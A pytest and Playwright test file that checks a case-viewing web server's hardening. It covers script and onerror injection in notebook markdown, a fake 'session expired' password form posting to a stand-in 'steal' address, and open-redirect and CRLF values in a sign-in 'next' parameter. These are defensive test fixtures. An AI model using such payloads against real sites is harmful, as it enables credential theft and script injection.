"""Web hardening in Debian's Chromium, on a real `readingroom serve`: raw HTML in a case's markdown,
and where signing in may send the browser next.

Two copies of the head CT case: one whose markdown carries a ``<script>`` and event handlers
(``readingroom check`` names them, so it is withheld), one whose markdown carries raw HTML the
check lets through but a page must not (a form asking for a password, a style hiding the
Reveal button): the sanitizer removes it, and the case reads as before.
"""

from __future__ import annotations

import json
import shutil
import sys

import pytest
from playwright.sync_api import expect

from readingroom.records import RecordsStore
from readingroom.server.catalog import public_id
from tests.accessibility import assert_passes_axe
from tests.serve.conftest import CASES, HEAD_CT
from tests.servers import Server, free_port, jupyter_env

pytestmark = pytest.mark.browser
SCRIPTED, STYLED = "scripted-head-ct", "styled-head-ct"
ACCOUNT = {"display_name": "Dr Redirected", "username": "redirected", "password": "only to this site please"}
SCRIPT = ('<script>window.rrRan = "script"</script>\n\n'
          '<img src="missing.png" alt="" onerror="window.rrRan = \'onerror\'">')
RAW_HTML = ('<style>#rr-reveal { display: none }</style>\n\n'
            '<form action="http://127.0.0.2:9/steal"><label>Session expired: password '
            '<input name="password" type="password"></label></form>')
LATER_RAW_HTML = '<form action="http://127.0.0.2:9/steal"><label>Type it again <input name="again"></label></form>'


def _case_with(root, slug: str, first: str, later: str = "") -> None:
    shutil.copytree(CASES / HEAD_CT, root / slug)
    path = root / slug / "case.ipynb"
    notebook = json.loads(path.read_text())
    notebook["cells"][0]["source"] = "".join(notebook["cells"][0]["source"]) + "\n\n" + first
    findings = next(c for c in notebook["cells"] if "findings" in c["metadata"].get("tags", []))
    findings["source"] = "".join(findings["source"]) + ("\n\n" + later if later else "")
    path.write_text(json.dumps(notebook))


@pytest.fixture(scope="module")
def hardened(tmp_path_factory):
    workdir = tmp_path_factory.mktemp("hardening")
    cases = workdir / "cases"
    _case_with(cases, SCRIPTED, SCRIPT, SCRIPT.replace("window.rrRan", "window.rrLater"))
    _case_with(cases, STYLED, RAW_HTML, LATER_RAW_HTML)
    env = jupyter_env(workdir, workdir / "frame-cache", "serve")
    with RecordsStore(env["READINGROOM_RECORDS"]) as store:
        store.add_participant(ACCOUNT["display_name"], username=ACCOUNT["username"], password=ACCOUNT["password"])
    port = free_port()
    server = Server([sys.executable, "-m", "readingroom", "serve", str(cases), f"--port={port}", "--pool-size=0"],
                    env, workdir, workdir / "serve.log", port, "readingroom/catalog.json")
    yield server
    server.stop()


def test_a_case_with_a_script_in_its_markdown_runs_nothing(page, hardened):
    reply = page.goto(f"{hardened.url}cases/{public_id(SCRIPTED)}/")
    assert reply.status == 403  # `readingroom check` names the script, so the case is withheld
    expect(page.get_by_text("This case is withheld")).to_be_visible()
    assert page.evaluate("typeof window.rrRan") == "undefined"
    assert_passes_axe(page)


def test_raw_html_in_markdown_is_removed_and_the_case_reads_as_before(page, hardened):
    page.goto(f"{hardened.url}cases/{public_id(STYLED)}/")
    expect(page.get_by_role("heading", name="Unknown case")).to_be_visible(timeout=120_000)
    expect(page.get_by_role("heading", name="Presentation")).to_be_visible()  # the author's markdown stays
    expect(page.locator("form[action*=steal], input[type=password]")).to_have_count(0)
    expect(page.get_by_text("Session expired: password")).to_be_visible()  # as text, harmless
    page.get_by_role("button", name="Reveal Findings").click()  # not hidden by the case's <style>
    expect(page.get_by_text("crescentic extra-axial collection")).to_be_visible()
    expect(page.get_by_text("Type it again")).to_be_visible()
    expect(page.locator("form[action*=steal], input[name=again]")).to_have_count(0)  # the later stage too
    assert_passes_axe(page)
    assert page.console.errors == []


@pytest.mark.parametrize("target", ["/%09/localhost:{port}/modules", "//localhost:{port}/modules",
                                    "/%5Clocalhost:{port}/modules", "/modules%0d%0aSet-Cookie:%20x=1"])
def test_signing_in_never_leaves_the_site(browser, hardened, target):
    context = browser.new_context()
    page = context.new_page()
    reply = page.goto(f"{hardened.url}signin?next={target.format(port=hardened.port)}")
    assert reply.status == 200
    assert_passes_axe(page)
    page.get_by_label("Username").fill(ACCOUNT["username"])
    page.get_by_label("Password").fill(ACCOUNT["password"])
    with page.expect_navigation() as landed:
        page.get_by_role("button", name="Sign in").click()
    assert landed.value.status == 200  # a newline in next= once gave a 500 here
    expect(page).to_have_url(f"{hardened.url}modules")
    context.close()
